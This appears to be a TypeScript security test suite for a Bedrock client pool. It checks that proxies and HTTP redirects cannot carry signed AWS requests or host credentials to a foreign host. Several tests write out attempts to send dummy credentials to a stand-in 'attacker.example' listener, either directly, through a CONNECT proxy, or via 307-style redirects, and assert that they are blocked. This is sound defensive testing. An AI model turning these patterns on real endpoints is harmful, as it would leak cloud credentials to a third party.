import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { ConverseCommand } from '@aws-sdk/client-bedrock-runtime';
import { BedrockPool, EndpointNotAllowedError, type ClientConfig } from '@bedrock-flow/bedrock-pool';
import { ComponentRegistry, ComponentValidationError, createComponent } from '@bedrock-flow/component';
import { amazonBedrockConverseDefinition } from '@bedrock-flow/converse';
import { amazonBedrockEmbeddingsDefinition } from '@bedrock-flow/embeddings';
import { startEmulator, type RunningEmulator } from '@bedrock-flow/emulator';
import { amazonBedrockModelDefinition } from '@bedrock-flow/model';
import { startAttacker, type AttackerListener } from './support/attacker-listener';
import { startConnectProxy, type ConnectProxy } from './support/connect-proxy';
import { withHostEnvironment } from './support/host-environment';
import { installLoopbackGuard, type LoopbackGuard } from './support/loopback-guard';
import { generateTestCertificate, type TestCertificate } from './support/test-certificate';
import { startTlsFront, type TlsFront } from './support/tls-front';

/**
 * A proxy is operator configuration (pool defaults or HTTPS_PROXY), never a flow input, and it does not widen the
 * endpoint policy: the policy judges the endpoint host the proxy would tunnel to. The SDK does not follow redirects,
 * so an allowed endpoint cannot bounce a signed request to another host either.
 */

const AWS_NAME = 'bedrock-runtime.us-east-1.amazonaws.com';
const ATTACKER = 'attacker.example';
const MODEL_ID = 'anthropic.claude-3-haiku-20240307-v1:0';
const HOST_KEYS = { accessKeyId: 'AKIAHOSTPROXYTEST001', secretAccessKey: 'hostProxyTestSecret/000000000000000000001', sessionToken: 'HostProxyTestSessionToken00000000000000000001' };
const NODE_KEYS = { accessKeyId: 'AKIANODEPROXYTEST001', secretAccessKey: 'nodeProxyTestSecret/000000000000000000001' };
const HOST_ENV = { AWS_ACCESS_KEY_ID: HOST_KEYS.accessKeyId, AWS_SECRET_ACCESS_KEY: HOST_KEYS.secretAccessKey, AWS_SESSION_TOKEN: HOST_KEYS.sessionToken };
const HOST_MARKERS = [HOST_KEYS.accessKeyId, HOST_KEYS.sessionToken];

let guard: LoopbackGuard;
let certificate: TestCertificate;
let emulator: RunningEmulator;
let front: TlsFront;
let attacker: AttackerListener;
let proxy: ConnectProxy;

beforeAll(async () => {
  guard = installLoopbackGuard([AWS_NAME, ATTACKER]);
  certificate = await generateTestCertificate([AWS_NAME, ATTACKER]);
  emulator = await startEmulator({ tls: false, credentials: [HOST_KEYS, NODE_KEYS] });
  front = await startTlsFront(certificate, Number(new URL(emulator.url).port));
  attacker = await startAttacker(certificate);
  proxy = await startConnectProxy();
});

afterAll(async () => {
  await proxy?.close();
  await attacker?.close();
  await front?.close();
  await emulator?.close();
  guard?.uninstall();
});

function converse(pool: BedrockPool, nodeId: string, config: ClientConfig) {
  return pool.acquire({ graphId: 'proxy-redirect', nodeId }, config).client.send(new ConverseCommand({ modelId: MODEL_ID, messages: [{ role: 'user', content: [{ text: 'hi' }] }] }));
}

describe('a proxy does not bypass the endpoint policy', () => {
  let pool: BedrockPool;
  beforeEach(() => {
    pool = new BedrockPool({ openTelemetry: false, idleTtlMs: 0, releaseGraceMs: 0, defaults: { tls: { ca: certificate.cert }, proxy: proxy.url, retry: { maxAttempts: 1 } } });
  });
  afterEach(() => pool.destroy());

  it('host credentials to a foreign host through the proxy: refused before any CONNECT', async () => {
    const before = { connects: proxy.connects.length, attacker: attacker.requests.length };
    await withHostEnvironment(HOST_ENV, async () => {
      expect(() => pool.acquire({ graphId: 'proxy-redirect', nodeId: 'n1' }, { region: 'us-east-1', endpoint: `https://${ATTACKER}:${attacker.httpsPort}` })).toThrow(EndpointNotAllowedError);
    });
    expect([proxy.connects.length - before.connects, attacker.requests.length - before.attacker]).toEqual([0, 0]);
  });

  it('the proxy from HTTPS_PROXY is the same: refused before any CONNECT', async () => {
    const fromEnv = new BedrockPool({ openTelemetry: false, idleTtlMs: 0, defaults: { tls: { ca: certificate.cert }, retry: { maxAttempts: 1 } } });
    const before = proxy.connects.length;
    try {
      await withHostEnvironment({ ...HOST_ENV, HTTPS_PROXY: proxy.url }, async () => {
        expect(() => fromEnv.acquire({ graphId: 'proxy-redirect', nodeId: 'n2' }, { region: 'us-east-1', endpoint: `https://${ATTACKER}:${attacker.httpsPort}` })).toThrow(EndpointNotAllowedError);
        // An allowed endpoint does go through the environment's proxy: the refusal above was the policy, not a missing proxy.
        await converse(fromEnv, 'n3', { region: 'us-east-1', endpoint: `https://${AWS_NAME}:${front.port}` });
      });
    } finally {
      await fromEnv.destroy();
    }
    expect(proxy.connects.slice(before)).toEqual([`${AWS_NAME}:${front.port}`]);
  });

  it('host credentials to the AWS endpoint through the proxy: one CONNECT to the AWS name, the call succeeds', async () => {
    const before = { connects: proxy.connects.length, emulator: emulator.stats().requests.total };
    await withHostEnvironment(HOST_ENV, () => converse(pool, 'n4', { region: 'us-east-1', endpoint: `https://${AWS_NAME}:${front.port}` }));
    expect(proxy.connects.slice(before.connects)).toEqual([`${AWS_NAME}:${front.port}`]);
    expect(emulator.stats().requests.total - before.emulator).toBe(1);
  });

  it('node credentials to a foreign https host through the proxy: allowed, and only the node keys arrive', async () => {
    const before = { connects: proxy.connects.length, attacker: attacker.requests.length, host: attacker.carrying(HOST_MARKERS) };
    await withHostEnvironment(HOST_ENV, () =>
      converse(pool, 'n5', { region: 'us-east-1', endpoint: `https://${ATTACKER}:${attacker.httpsPort}`, credentials: { kind: 'static', ...NODE_KEYS, origin: 'node' } }),
    );
    expect(proxy.connects.slice(before.connects)).toEqual([`${ATTACKER}:${attacker.httpsPort}`]);
    expect([attacker.requests.length - before.attacker, attacker.carrying(HOST_MARKERS) - before.host]).toEqual([1, 0]);
  });

  it('no component input can set a proxy: none in the manifest, and a stray `proxy` value is not an input', async () => {
    const manifest = new ComponentRegistry([amazonBedrockConverseDefinition, amazonBedrockModelDefinition, amazonBedrockEmbeddingsDefinition]).manifest();
    const inputNames = manifest.components.flatMap((component) => component.inputs.map((input) => input.name));
    expect(inputNames.length).toBeGreaterThan(30);
    expect(inputNames.filter((name) => /prox|tunnel|tls|ca_?cert|http_/i.test(name))).toEqual([]);
    const direct = new BedrockPool({ openTelemetry: false, idleTtlMs: 0, defaults: { tls: { ca: certificate.cert }, proxy: false, retry: { maxAttempts: 1 } } });
    const before = { connects: proxy.connects.length, emulator: emulator.stats().requests.total };
    let outcome = 'answered';
    try {
      const node = createComponent(amazonBedrockConverseDefinition, { graphId: 'proxy-redirect', nodeId: 'n6', pool: direct, env: false }, {
        model_id: MODEL_ID,
        endpoint_url: `https://${AWS_NAME}:${front.port}`,
        aws_access_key_id: NODE_KEYS.accessKeyId,
        aws_secret_access_key: NODE_KEYS.secretAccessKey,
        proxy: proxy.url,
        input_value: 'hi',
      });
      await node.text_response();
    } catch (error) {
      // Hosts may ignore unknown inputs (the default) or reject them: either way the value never becomes a proxy.
      expect(error).toBeInstanceOf(ComponentValidationError);
      expect((error as ComponentValidationError).issues.map((issue) => issue.field)).toEqual(['proxy']);
      outcome = 'rejected';
    } finally {
      await direct.destroy();
    }
    expect(proxy.connects.length - before.connects).toBe(0);
    expect(emulator.stats().requests.total - before.emulator).toBe(outcome === 'answered' ? 1 : 0);
  });
});

describe('the SDK does not follow redirects', () => {
  let redirector: Server;
  let redirectorPort: number;
  const received: string[] = [];
  let status = 307;

  beforeAll(async () => {
    redirector = createServer((req, res) => {
      received.push(`${req.method} ${req.url}`);
      req.resume();
      req.on('end', () => res.writeHead(status, { location: `https://${ATTACKER}:${attacker.httpsPort}${req.url ?? '/'}`, 'content-type': 'application/json' }).end('{}'));
    });
    await new Promise<void>((resolve) => redirector.listen(0, '127.0.0.1', () => resolve()));
    redirectorPort = (redirector.address() as AddressInfo).port;
  });
  afterAll(async () => {
    redirector.closeAllConnections();
    await new Promise<void>((resolve) => redirector.close(() => resolve()));
  });

  it.each([301, 302, 303, 307, 308])('a %d to the attacker from an allowed loopback endpoint fails the call; the attacker gets nothing', async (code) => {
    status = code;
    // Default retry settings (3 attempts): a redirect is neither followed nor retried.
    // The operator allows the loopback endpoint for the host's credentials (as for a local emulator).
    const pool = new BedrockPool({ openTelemetry: false, idleTtlMs: 0, endpointPolicy: { allowedHosts: [`127.0.0.1:${redirectorPort}`] }, defaults: { proxy: false } });
    const before = { received: received.length, attacker: attacker.requests.length };
    let error: unknown;
    try {
      await withHostEnvironment(HOST_ENV, () => converse(pool, `redirect-${code}`, { region: 'us-east-1', endpoint: `http://127.0.0.1:${redirectorPort}` }));
    } catch (caught) {
      error = caught;
    } finally {
      await pool.destroy();
    }
    expect(error).toBeDefined();
    expect((error as { $metadata?: { httpStatusCode?: number } }).$metadata?.httpStatusCode).toBe(code);
    expect([received.length - before.received, attacker.requests.length - before.attacker]).toEqual([1, 0]);
  });
});
